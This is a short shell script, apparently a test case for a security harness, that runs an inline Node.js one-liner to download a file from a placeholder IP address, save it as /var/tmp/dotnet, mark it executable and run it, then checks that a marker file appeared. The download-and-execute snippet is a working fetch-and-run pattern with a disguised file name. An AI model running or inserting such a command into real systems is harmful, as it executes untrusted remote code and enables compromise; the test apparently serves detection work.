#!/bin/sh
. /opt/case/case.sh

node -e '
const fs = require("fs");
require("http").get("http://203.0.113.10/programs/marker", (a) => {
    const f = fs.createWriteStream("/var/tmp/dotnet");
    a.pipe(f); f.on("close", () => { fs.chmodSync("/var/tmp/dotnet", 0o755); require("child_process").execFileSync("/var/tmp/dotnet"); });
});'
test -e /tmp/reached
took_place
